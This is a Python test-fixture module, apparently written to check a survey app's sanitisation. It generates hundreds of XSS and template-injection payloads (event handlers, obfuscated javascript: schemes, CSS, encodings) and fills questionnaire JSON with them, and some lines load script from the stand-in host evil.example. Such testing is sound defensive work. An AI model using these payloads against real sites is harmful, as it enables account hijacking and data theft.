"""Texts that would run if a page let them: tags × events, addresses in every spelling, Markdown, style, templates, encodings.

Made here, so that the list can be read. Each would set `window.hit` where it could call anything.
"""

from collections.abc import Iterator
from itertools import product

from domain.base import new_id
from domain.questions import Power

CALL = "window.hit=1"
TAGS = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "iframe", "a href=#", "math", "audio src=x")
EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick", "onanimationstart", "onpointerenter"),
    *("onbeforeprint", "onscroll", "onpageshow", "onkeydown"),
)
QUOTES = ('"', "'", "", "`")
#: `javascript:` as browsers still read it, and as some once did.
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "javascript&colon;"),
    *(
        "&#106;avascript:",
        "&#x6A;avascript:",
        "&#0000106avascript:",
        "javascript&#58;",
        "java&Tab;script:",
        "java&NewLine;script:",
    ),
    *("vbscript:", "data:text/html,", "data:text/html;base64,", "feed:javascript:", "view-source:javascript:", "livescript:"),
    *("\u2028javascript:", "javascript\u200b:", "ｊavascript:", "jav&#x0A;ascript:", "%6Aavascript:", "//evil.example/", "blob:"),
)
LINKS = (
    *("[tryk]({0})", "[tryk](<{0}>)", '[tryk]({0} "titel")', "![x]({0})", "<{0}>", "[tryk][a]\n\n[a]: {0}"),
    *(
        '<a href="{0}">tryk</a>',
        "<a href={0}>tryk</a>",
        '<form action="{0}"><button>x</button></form>',
        '<iframe src="{0}"></iframe>',
    ),
)
BREAKING = (
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    '">',
    "'>",
    "</style>",
    "</noscript>",
    "</template>",
    "</option>",
    "</q>",
)
STYLES = (
    *(
        "<style>*{background:url(//evil.example/x)}</style>",
        '<p style="background:url(javascript:{0})">x</p>',
        "<link rel=stylesheet href=//evil.example>",
    ),
    *(
        '<p style="width:expression({0})">x</p>',
        "<style>@import '//evil.example'</style>",
        '<p style="position:fixed;inset:0">x</p>',
    ),
)
TEMPLATES = (
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config}}",
    "{{''.__class__}}",
    "%(name)s",
    "{0}",
    "[[7*7]]",
    "__proto__",
)
WHOLE = (
    *(
        "<script>{0}</script>",
        "<script src=//evil.example/x.js></script>",
        "<ScRiPt>{0}</sCrIpT>",
        "<script\x0c>{0}</script>",
        "<script/x>{0}</script>",
    ),
    *(
        "<svg><script>{0}</script></svg>",
        "<svg><animate onbegin={0} attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    ),
    *(
        "<svg><use href='data:image/svg+xml,<svg onload={0}>'/></svg>",
        "<object data=javascript:{0}>",
        "<embed src=javascript:{0}>",
    ),
    *(
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
        "<template><script>{0}</script></template>",
    ),
    *(
        "<noscript><p title='</noscript><img src=x onerror={0}>'>",
        "<!--><img src=x onerror={0}>-->",
        "<![CDATA[<img src=x onerror={0}>]]>",
    ),
    *(
        "<img src=x onerror=&#119;indow.hit=1>",
        "&lt;img src=x onerror={0}&gt;",
        "&amp;lt;script&amp;gt;",
        "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    ),
    *(
        "＜script＞{0}＜/script＞",
        "<\u200bscript>{0}</script>",
        "\u202e<script>{0}</script>",
        "<scr\x00ipt>{0}</script>",
        "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    ),
    *(
        "<isindex action=javascript:{0}>",
        "<form><button formaction=javascript:{0}>x</button></form>",
        "<a id=csrf_token name=csrf_token>x</a>",
    ),
    *(
        "<input name=do value=publish>",
        "<img name=getElementById>",
        "<form id=draft>",
        "<div data-module=editor data-asked='x'>",
        "<iframe srcdoc='<script>{0}</script>'>",
    ),
    *(
        "**<img src=x onerror={0}>**",
        "`<script>{0}</script>`",
        "# <svg onload={0}>",
        "* <img src=x onerror={0}>",
        "> <script>{0}</script>",
        "    <script>{0}</script>",
    ),
)


def payloads() -> list[str]:
    """Each once, at least five hundred."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} {event}={CALL}>"
    for ending, (place, quote) in product(BREAKING, enumerate(QUOTES)):
        yield f"{quote}{ending}<img src=x {EVENTS[place]}={quote}{CALL}{quote}>"
    for scheme, link in product(SCHEMES, LINKS):
        yield link.replace("{0}", f"{scheme}{CALL}")
    for quote, event in product(QUOTES, EVENTS):
        yield f"{quote} {event}={quote}{CALL}{quote} x={quote}"
    for one in (*STYLES, *WHOLE):
        yield one.replace("{0}", CALL)
    yield from TEMPLATES
    for braces in TEMPLATES[:4]:
        yield braces.replace("7*7", "constructor.constructor('window.hit=1')()")


def hostile(payload_of: Iterator[str], *, questions: int = 1) -> dict[str, object]:
    """A set of questions, as the JSON of a sketch, with another payload in each of its texts."""

    def texts() -> dict[str, str]:
        return {"da": next(payload_of), "en": next(payload_of)}

    def choices() -> list[dict[str, object]]:
        return [{"code": f"c{number}", "text": texts()} for number in (1, 2)]

    return {
        **{name: texts() for name in ("title", "promise", "guidance", "voice")},
        "questions": [
            {
                "id": str(new_id()),
                "kind": "one_choice",
                "choices": choices(),
                **{name: texts() for name in ("prompt", "label", "help")},
            }
            for _number in range(questions)
        ],
        "about": [{"field": f"f{number}", "label": texts(), "choices": choices()} for number in range(2)],
        "power": {key: next(payload_of) for key in Power},
    }
